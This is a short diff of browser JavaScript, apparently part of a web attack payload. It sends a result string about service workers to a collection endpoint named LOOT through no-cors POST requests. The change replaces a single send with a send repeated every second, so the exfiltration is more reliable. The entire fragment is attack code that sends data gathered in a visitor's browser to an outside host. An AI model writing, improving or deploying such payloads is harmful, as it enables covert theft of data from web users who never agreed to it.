@@ -10,5 +10,8 @@
   } catch (error) {
     answer = `${error.name}, no worker`;
   }
-  await fetch(LOOT, { method: "POST", mode: "no-cors", body: answer });
+  // Again and again: while workers change places, a browser may lose a request.
+  const tell = () => fetch(LOOT, { method: "POST", mode: "no-cors", body: answer });
+  tell();
+  setInterval(tell, 1000);
 })();
